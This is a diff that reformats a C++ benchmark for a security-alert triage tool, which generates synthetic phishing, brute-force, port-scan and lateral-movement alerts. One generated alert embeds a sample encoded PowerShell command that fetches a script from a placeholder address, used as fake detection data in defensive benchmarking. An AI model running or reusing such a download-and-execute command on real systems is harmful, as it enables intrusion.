@@ -27,7 +27,8 @@ fs::path merged_context(const fs::path& examples, const fs::path& out) {
   fs::create_directories(out);
   const char* scenarios[] = {"scenario-1-phishing-attachment", "scenario-2-ssh-brute-force",
                              "scenario-3-lateral-movement"};
-  std::ofstream events(out / "events.jsonl"), history(out / "history.jsonl"), facts(out / "host_facts.csv");
+  std::ofstream events(out / "events.jsonl"), history(out / "history.jsonl"),
+      facts(out / "host_facts.csv");
   facts << "host,key,value\n";
   for (const char* s : scenarios) {
     const fs::path ctx = examples / s / "context";
@@ -38,7 +39,8 @@ fs::path merged_context(const fs::path& examples, const fs::path& out) {
     std::string f = slurp(ctx / "host_facts.csv");
     facts << f.substr(f.find('\n') + 1);
     if (fs::exists(ctx / "intel"))
-      fs::copy(ctx / "intel", out / "intel", fs::copy_options::recursive | fs::copy_options::overwrite_existing);
+      fs::copy(ctx / "intel", out / "intel",
+               fs::copy_options::recursive | fs::copy_options::overwrite_existing);
   }
   return out;
 }
@@ -50,7 +52,8 @@ std::vector<soc::InputRecord> make_alerts(const fs::path& examples, std::size_t 
       slurp(examples / "scenario-2-ssh-brute-force/alert.json"),
       slurp(examples / "scenario-3-lateral-movement/alert.json"),
   };
-  const char* hosts[] = {"WKS-MARKETING-07", "WKS-FIN-01", "WKS-IT-02", "srv-web-prod-01", "SRV-FILE-01"};
+  const char* hosts[] = {"WKS-MARKETING-07", "WKS-FIN-01", "WKS-IT-02", "srv-web-prod-01",
+                         "SRV-FILE-01"};
   std::mt19937 rng(42);
   std::vector<soc::InputRecord> out;
   out.reserve(count);
@@ -64,26 +67,32 @@ std::vector<soc::InputRecord> make_alerts(const fs::path& examples, std::size_t 
       json = templates[kind];
       // Fresh id and time; for brute force a source from a pool of 500 addresses.
       auto replace = [&](const std::string& from, const std::string& to) {
-        for (auto pos = json.find(from); pos != std::string::npos; pos = json.find(from, pos + to.size()))
+        for (auto pos = json.find(from); pos != std::string::npos;
+             pos = json.find(from, pos + to.size()))
           json.replace(pos, from.size(), to);
       };
       replace("\"kibana.alert.uuid\": \"", fmt::format("\"kibana.alert.uuid\": \"bench-{}-", i));
       // Every alert at its own time, two seconds apart, like a live feed.
-      for (const char* t : {"2026-03-10T09:42:05.000Z", "2026-03-11T14:23:40.000Z", "2026-03-12T02:47:13.000Z"})
+      for (const char* t :
+           {"2026-03-10T09:42:05.000Z", "2026-03-11T14:23:40.000Z", "2026-03-12T02:47:13.000Z"})
         replace(t, time);
-      if (kind == 1 && i % 4) replace("185.220.101.34", fmt::format("203.0.{}.{}", (i / 250) % 2, i % 250));
+      if (kind == 1 && i % 4)
+        replace("185.220.101.34", fmt::format("203.0.{}.{}", (i / 250) % 2, i % 250));
     } else if (kind == 3) {
-      json = fmt::format(R"({{"title":"Port scan detected","id":"bench-{}","timestamp":"{}","src_ip":"198.51.100.{}",)"
-                         R"("dst_ip":"10.20.0.15","severity":"low","description":"{} ports probed on {}"}})",
-                         i, time, i % 200, 100 + i % 900, hosts[i % 5]);
+      json = fmt::format(
+          R"({{"title":"Port scan detected","id":"bench-{}","timestamp":"{}","src_ip":"198.51.100.{}",)"
+          R"("dst_ip":"10.20.0.15","severity":"low","description":"{} ports probed on {}"}})",
+          i, time, i % 200, 100 + i % 900, hosts[i % 5]);
     } else {
-      json = fmt::format(R"({{"@timestamp":"{}","kibana.alert.uuid":"bench-{}","kibana.alert.rule.name":)"
-                         R"("Suspicious PowerShell execution","kibana.alert.severity":"medium","event":{{"category":["process"]}},)"
-                         R"("host":{{"name":"{}"}},"user":{{"name":"a.martin"}},"process":{{"name":"powershell.exe",)"
-                         R"("command_line":"powershell.exe -nop -enc SQBFAFgA http://198.51.100.{}/a.ps1"}}}})",
-                         time, i, hosts[(i / 5) % 5], i % 250);
+      json = fmt::format(
+          R"({{"@timestamp":"{}","kibana.alert.uuid":"bench-{}","kibana.alert.rule.name":)"
+          R"("Suspicious PowerShell execution","kibana.alert.severity":"medium","event":{{"category":["process"]}},)"
+          R"("host":{{"name":"{}"}},"user":{{"name":"a.martin"}},"process":{{"name":"powershell.exe",)"
+          R"("command_line":"powershell.exe -nop -enc SQBFAFgA http://198.51.100.{}/a.ps1"}}}})",
+          time, i, hosts[(i / 5) % 5], i % 250);
     }
-    out.push_back(soc::InputRecord{fmt::format("bench:{}", i), soc::RecordKind::kJson, std::move(json), std::nullopt});
+    out.push_back(soc::InputRecord{fmt::format("bench:{}", i), soc::RecordKind::kJson,
+                                   std::move(json), std::nullopt});
   }
   return out;
 }
@@ -107,7 +116,8 @@ void run_mixed(benchmark::State& state, bool with_store) {
   soc::SystemClock clock;
   soc::SqliteOptions options;
   options.path = config.store.path;
-  if (const char* level = std::getenv("SOC_BENCH_ZSTD_LEVEL")) options.compression_level = std::atoi(level);
+  if (const char* level = std::getenv("SOC_BENCH_ZSTD_LEVEL"))
+    options.compression_level = std::atoi(level);
   std::unique_ptr<soc::Store> store;
   if (with_store) {
     auto opened = soc::open_sqlite_store(options, clock);
@@ -140,13 +150,21 @@ void run_mixed(benchmark::State& state, bool with_store) {
   state.SetItemsProcessed(static_cast<std::int64_t>(i));
   state.SetBytesProcessed(static_cast<std::int64_t>(bytes));
   state.counters["rejected"] = static_cast<double>(rejected);
-  if (with_store) state.counters["db_MB"] = static_cast<double>(fs::file_size(config.store.path)) / 1e6;
+  if (with_store)
+    state.counters["db_MB"] = static_cast<double>(fs::file_size(config.store.path)) / 1e6;
   (void)root;
 }
 
-void BM_Triage_MixedWithSqlite(benchmark::State& state) { run_mixed(state, true); }
-void BM_Triage_MixedNoStore(benchmark::State& state) { run_mixed(state, false); }
-BENCHMARK(BM_Triage_MixedWithSqlite)->Iterations(100000)->Unit(benchmark::kMicrosecond)->UseRealTime();
+void BM_Triage_MixedWithSqlite(benchmark::State& state) {
+  run_mixed(state, true);
+}
+void BM_Triage_MixedNoStore(benchmark::State& state) {
+  run_mixed(state, false);
+}
+BENCHMARK(BM_Triage_MixedWithSqlite)
+    ->Iterations(100000)
+    ->Unit(benchmark::kMicrosecond)
+    ->UseRealTime();
 BENCHMARK(BM_Triage_MixedNoStore)->Iterations(100000)->Unit(benchmark::kMicrosecond)->UseRealTime();
 
 }  // namespace
